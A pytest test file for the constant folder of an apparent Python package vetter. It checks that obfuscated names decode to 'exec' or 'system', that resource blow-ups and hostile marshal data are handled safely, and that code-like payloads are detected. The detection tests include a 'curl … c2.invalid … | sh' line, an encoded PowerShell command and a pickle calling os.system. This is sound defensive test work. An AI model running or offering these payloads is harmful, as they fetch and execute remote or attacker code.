"""Constant folding: what Python computes, within bounds, and nothing that runs."""

from __future__ import annotations

import codecs
import marshal
import pickle
import struct
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stockade.vetter.python import fold
from stockade.vetter.python.fold import UNKNOWN, MarshalledCode, TooLarge
from stockade.vetter.python.fold_calls import FUNCTIONS

SCALARS = (
    st.none() | st.booleans() | st.integers(-300, 300) | st.floats(allow_nan=False) | st.text(max_size=8)
)
CONSTANTS = st.recursive(
    SCALARS | st.binary(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.tuples(inner, inner)
        | st.dictionaries(st.text(max_size=3), inner, max_size=3)
    ),
    max_leaves=6,
)


@pytest.mark.parametrize(
    ("name", "args", "wanted"),
    [
        ("chr", [101], "e"),
        ("builtins.chr", [101], "e"),
        ("ord", ["e"], 101),
        ("bytes", [[104, 105]], b"hi"),
        ("bytes", ["hi", "ascii"], b"hi"),
        ("bytearray", [3], b"\0\0\0"),
        ("str", [b"hi", "ascii"], "hi"),
        ("str", [b"hi"], "b'hi'"),
        ("int", ["ff", 16], 255),
        ("hex", [255], "0xff"),
        ("len", ["abc"], 3),
        ("reversed", ["abc"], ["c", "b", "a"]),
        ("sorted", [[3, 1, 2]], [1, 2, 3]),
        ("zip", ["ab", [1, 2]], [("a", 1), ("b", 2)]),
        ("enumerate", ["ab"], [(0, "a"), (1, "b")]),
        ("sum", [[1, 2, 3]], 6),
        ("sum", [[[1], [2]], []], [1, 2]),
        ("max", [1, 5, 2], 5),
        ("pow", [7, 5, 13], 11),
        ("divmod", [7, 2], (3, 1)),
        ("dict", [[("a", 1)]], {"a": 1}),
        ("int.from_bytes", [b"\1\0", "big"], 256),
        ("int.to_bytes", [256, 2, "big"], b"\1\0"),
        ("str.maketrans", ["ab", "cd"], {97: 99, 98: 100}),
        ("str.join", ["-", ["a", "b"]], "a-b"),
        ("urllib.parse.unquote", ["%65xec"], "exec"),
        ("html.unescape", ["&#101;"], "e"),
        ("json.loads", ['{"a": [1]}'], {"a": [1]}),
        ("ast.literal_eval", ["[1, 'x']"], [1, "x"]),
        ("struct.unpack", ["<H", b"\1\0"], (1,)),
        ("struct.pack", [">H", 1], b"\0\1"),
        ("operator.xor", [5, 3], 6),
        ("itertools.chain", [[1], (2,)], [1, 2]),
        ("codecs.encode", ["exec", "rot13"], "rkrp"),
    ],
)
def test_pure_functions_give_what_python_gives(name: str, args: list[object], wanted: object) -> None:
    assert fold.call(name, args) == wanted


def test_what_is_not_pure_or_does_not_suit_is_unknown() -> None:
    assert fold.call("os.system", ["true"]) is UNKNOWN
    assert fold.call("eval", ["1"]) is UNKNOWN
    assert fold.call("chr", ["x"]) is UNKNOWN
    assert fold.call("chr", [UNKNOWN]) is UNKNOWN
    assert fold.call("int", ["x"]) is UNKNOWN
    assert fold.method("abc", "__class__", []) is UNKNOWN
    assert fold.method("{0.__class__}", "format", ["x"]) is UNKNOWN
    assert fold.binop("+", 1, "x") is UNKNOWN
    assert fold.subscript("abc", 7) is UNKNOWN
    assert fold.knows("chr")
    assert not fold.knows("os.system")


@pytest.mark.parametrize(
    "blow_up",
    [
        lambda: fold.binop("*", "a", 10**9),
        lambda: fold.binop("*", 10**9, [1]),
        lambda: fold.binop("**", 9, 9**9),
        lambda: fold.binop("<<", 1, 10**9),
        lambda: fold.percent("%99999999d", 1),
        lambda: fold.percent("%*d", (99999999, 1)),
        lambda: fold.percent("%(a)s" * 5000, {"a": "x" * 5000}),
        lambda: fold.method("{:99999999d}", "format", [1]),
        lambda: fold.method("{0:{1}}", "format", [1, 99999999]),
        lambda: fold.method("{0}" * 5000, "format", ["x" * 5000]),
        lambda: fold.fstring([(1, None, "99999999d")]),
        lambda: fold.method("a" * 10**6, "replace", ["a", "b" * 1000]),
        lambda: fold.method("a" * 4000, "join", [["b"] * 4000]),
        lambda: fold.method("\t" * 10**6, "expandtabs", [1000]),
        lambda: fold.method("a" * 10**4, "translate", [{97: "x" * 10**4}]),
        lambda: fold.method("a", "center", [10**9]),
        lambda: fold.call("bytes", [10**9]),
        lambda: fold.call("list", [range(10**9)]),
        lambda: fold.call("int.to_bytes", [1, 10**9, "big"]),
        lambda: fold.call("pow", [3, 10**2000, 10**2000 + 1]),
        lambda: fold.call("struct.pack", ["99999999x"]),
        lambda: fold.call("ast.literal_eval", ["[" * 200 + "]" * 200]),
        lambda: fold.call("ast.literal_eval", ["-" * 5000 + "1"]),
        lambda: fold.call("codecs.decode", [b"a" * 10**6, "punycode"]),
    ],
)
def test_blow_ups_are_refused_before_they_happen(blow_up: Callable[[], object]) -> None:
    with pytest.raises(TooLarge):
        blow_up()


def test_shared_lists_do_not_blow_up_as_text() -> None:
    value: list[object] = ["x" * 100]
    for _ in range(12):
        value = [value] * 10
    with pytest.raises(TooLarge):
        fold.call("str", [value])


def test_methods() -> None:
    assert fold.method("a-b", "split", ["-"]) == ["a", "b"]
    assert fold.method("", "join", [["e", "x"]]) == "ex"
    assert fold.method("rkrp", "decode", ["rot13"]) == "exec"
    assert fold.method("65786563", "decode", ["hex"]) == "exec"
    assert fold.method(b"exec", "hex", []) == "65786563"
    assert fold.method({"a": 1}, "get", ["b", 2]) == 2
    assert fold.method({"a": 1}, "items", []) == [("a", 1)]
    assert fold.method("{x}-{0[1]!r}", "format", ["ab"], {"x": 1}) == "1-'b'"
    assert fold.method("{x}", "format_map", [{"x": "y"}]) == "y"
    assert fold.method([1, 2], "__getitem__", [1]) == 2
    assert fold.method(5, "__xor__", [3]) == 6
    assert fold.method([1], "append", [2]) is UNKNOWN


def test_operators() -> None:
    assert fold.binop("+", "sys", "tem") == "system"
    assert fold.binop("%", "%s-%03d%%", ("a", 7)) == "a-007%"
    assert fold.binop("%", b"%s", b"x") == b"x"
    assert fold.binop("/", 1, 0) is UNKNOWN
    assert fold.unary("~", 5) == -6
    assert fold.unary("not", "") is True
    assert fold.compare("in", "a", "abc") is True
    assert fold.compare("==", "a", b"a") is False
    assert fold.compare("is", None, None) is True
    assert fold.subscript("cexe", slice(None, None, -1)) == "exec"
    assert fold.subscript({"a": 1}, "a") == 1
    assert fold.subscript("abc", slice(UNKNOWN, 1)) is UNKNOWN
    assert fold.fstring([("a", None, ""), (5, None, "03d"), ("x", "r", "")]) == "a005'x'"
    assert fold.fstring([(UNKNOWN, None, "")]) is UNKNOWN


@given(st.text(max_size=30), st.integers(-5, 5) | st.text(max_size=5) | st.floats(allow_nan=False))
def test_percent_agrees_with_python(template: str, value: object) -> None:
    try:
        wanted: object = template % (value,)
    except (TypeError, ValueError, KeyError, OverflowError):
        wanted = UNKNOWN
    try:
        got = fold.percent(template, (value,))
    except TooLarge:
        return
    assert got == wanted or got is UNKNOWN


@given(
    st.sampled_from(["%s", "%d", "%5d", "%-5s|", "%05.2f", "%x", "%r", "%c", "%%", "%a", "%+d", "%e"]),
    st.integers(0, 900) | st.text(max_size=5) | st.floats(-9, 9),
)
def test_percent_computes_the_usual_directives(template: str, value: object) -> None:
    try:
        wanted: object = template % (value,) if template != "%%" else "%"
    except (TypeError, ValueError, OverflowError):
        wanted = UNKNOWN
    assert fold.percent(template, (value,) if template != "%%" else ()) == wanted


@given(st.sampled_from(sorted(FUNCTIONS)), st.lists(CONSTANTS, max_size=3))
def test_calls_never_raise_anything_but_too_large(name: str, args: list[object]) -> None:
    try:
        result = fold.call(name, args)
    except TooLarge:
        return
    assert not isinstance(result, bytearray)


@given(
    CONSTANTS,
    st.sampled_from(
        [
            "join",
            "replace",
            "split",
            "strip",
            "decode",
            "encode",
            "format",
            "translate",
            "get",
            "index",
            "hex",
            "zfill",
        ]
    ),
    st.lists(CONSTANTS, max_size=2),
)
def test_methods_never_raise_anything_but_too_large(obj: object, name: str, args: list[object]) -> None:
    try:
        fold.method(obj, name, args)
    except TooLarge:
        return


@given(
    st.sampled_from(["+", "-", "*", "/", "//", "%", "**", "<<", ">>", "&", "|", "^"]), CONSTANTS, CONSTANTS
)
def test_operators_never_raise_anything_but_too_large(op: str, a: object, b: object) -> None:
    try:
        fold.binop(op, a, b)
        fold.compare("<", a, b)
        fold.compare("in", a, b)
        fold.subscript(a, b)
    except TooLarge:
        return


def _code() -> bytes:
    source = "import os\ndef f(x):\n    return os.getcwd()\nprint(('one', b'two', 3.5, {'k'}), f)"
    return marshal.dumps(compile(source, "somewhere.py", "exec"))


def test_marshalled_code_is_read_and_not_unmarshalled() -> None:
    code = fold.call("marshal.loads", [_code()])
    assert isinstance(code, MarshalledCode)
    assert {"os", "getcwd", "print"} <= set(code.names)
    assert {"one", "two"} <= set(code.strings)
    assert code.layout


def test_marshalled_code_of_other_versions() -> None:
    def text(tag: bytes, value: bytes) -> bytes:
        return tag + struct.pack("<I", len(value)) + value

    names = b"(" + struct.pack("<I", 1) + text(b"t", b"system")
    consts = b"(" + struct.pack("<I", 2) + text(b"s", b"echo") + b"N"
    empty = b"(" + struct.pack("<I", 0)
    head27 = b"c" + struct.pack("<4I", 0, 0, 2, 64)
    body = text(b"s", b"d\0\0S") + consts + names + empty * 3 + text(b"s", b"a.py") + text(b"t", b"f")
    python2 = head27 + body + struct.pack("<I", 1) + text(b"s", b"")
    code = fold.call("marshal.loads", [python2])
    assert isinstance(code, MarshalledCode)
    assert (code.names, code.strings, code.layout) == (("system",), ("echo",), "2.7")

    broken = _code()[:-30]
    cut = fold.call("marshal.loads", [broken])
    assert isinstance(cut, MarshalledCode)
    assert cut.layout == ""
    assert any("getcwd" in each for each in cut.strings)


@given(st.binary(max_size=300))
def test_hostile_marshal_never_raises(tail: bytes) -> None:
    fold.call("marshal.loads", [tail])
    fold.call("marshal.loads", [_code()[:25] + tail])
    fold.call("marshal.loads", [b"\xe3" + b"\0" * 20 + b"s" + tail])


def test_marshal_that_nests_or_counts_without_end() -> None:
    head = b"\xe3" + struct.pack("<5I", 0, 0, 0, 1, 64) + b"s" + struct.pack("<I", 2) + b"d\0"
    for tail in (
        b")\1" * 100_000,
        b"(" + struct.pack("<I", 2**31 - 1) + b"N" * 40,
        b"r" + struct.pack("<I", 0) * 9,
    ):
        code = fold.call("marshal.loads", [head + tail])
        assert isinstance(code, MarshalledCode)
        assert code.layout == ""


@pytest.mark.parametrize(
    ("value", "wanted"),
    [
        ("import os\nos.system('x')", "python"),
        (b"exec(compile(x, '', 'exec'))", "python"),
        ("print('hello there')", "python"),
        ("The function f(x) is used there", None),
        ("hello world, this is text", None),
        ("a = 1", None),
        ("name", None),
        ("x.y", None),
        ('{"a": 1, "b": [1, 2, 3]}', None),
        ("https://c2.invalid/x", "url"),
        ("see https://c2.invalid/x", None),
        ("#!/bin/sh\necho hi", "shell"),
        ("curl http://c2.invalid/a | sh", "shell"),
        ("powershell -enc AAAA", "powershell"),
        ("powershell is a shell", None),
        (b"\x7fELF\2\1\1" + b"\0" * 60, "elf"),
        (b"\x7fELF", None),
        (b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0", "pe"),
        (b"MZ" + b"\0" * 100, None),
        (b"\xcf\xfa\xed\xfe" + b"\0" * 40, "macho"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 40, None),
        (pickle.dumps(codecs.lookup_error), "pickle"),
        (pickle.dumps([1, 2]), None),
        (b"cos\nsystem\n(S'x'\ntR.", "pickle"),
        (b"\x80\x04 random", None),
        (b"\0" * 50, None),
        (12, None),
    ],
)
def test_looks_like_code_demands_whole_headers(value: object, wanted: str | None) -> None:
    assert fold.looks_like_code(value) == wanted


def test_looks_like_code_knows_compiled_python() -> None:
    assert fold.looks_like_code(_code()) == "marshal"
    assert fold.looks_like_code(struct.pack("<H", 3495) + b"\r\n" + b"\0" * 12 + _code()) == "pyc"
    assert fold.looks_like_code(b"c" + b"\0" * 60) is None


def test_looks_like_code_is_quick_on_hostile_text() -> None:
    for text in ("\n" * 10**6 + "x", "lambda " * 10**5, "if x " * 10**5, "curl " * 10**5, "(" * 10**6):
        assert fold.looks_like_code(text) is None
